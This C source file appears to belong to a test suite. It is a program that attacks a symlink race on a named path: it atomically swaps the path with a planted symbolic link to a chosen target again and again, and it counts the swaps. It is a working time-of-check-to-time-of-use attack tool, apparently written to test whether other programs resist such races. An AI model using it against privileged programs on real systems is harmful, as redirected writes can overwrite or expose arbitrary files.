/* SPDX-License-Identifier: MIT */
/* swap_link DIR NAME TARGET: the attacker of a race on DIR/NAME.  Waits for
 * DIR to exist, plants a symbolic link DIR/.swap-NAME -> TARGET, then swaps
 * it with DIR/NAME (renameat2 RENAME_EXCHANGE, atomic) as fast as it can
 * until SIGTERM: whatever another program makes at DIR/NAME is, every other
 * instant, a link to TARGET.  On SIGTERM prints the number of swaps made
 * (0: DIR/NAME never existed while it ran, so nothing was attacked). */
#include "wl.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>

#define USAGE "swap_link DIR NAME TARGET"

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
    (void)sig;
    stop = 1;
}

int main(int argc, char **argv)
{
    if (argc != 4)
        wl_usage(USAGE);
    struct sigaction sa = {.sa_handler = on_term};
    sigaction(SIGTERM, &sa, NULL);
    char link[4096];
    if (snprintf(link, sizeof link, ".swap-%s", argv[2]) >= (int)sizeof link)
        wl_usage(USAGE);
    int dfd = -1;
    while (!stop && (dfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC)) < 0)
        if (errno != ENOENT)
            wl_die(argv[1]);
    unsigned long swaps = 0;
    if (dfd >= 0) {
        if (symlinkat(argv[3], dfd, link) != 0)
            wl_die(link);
        while (!stop)
            if (renameat2(dfd, link, dfd, argv[2], RENAME_EXCHANGE) == 0)
                swaps++;
    }
    printf("%lu\n", swaps);
    return 0;
}
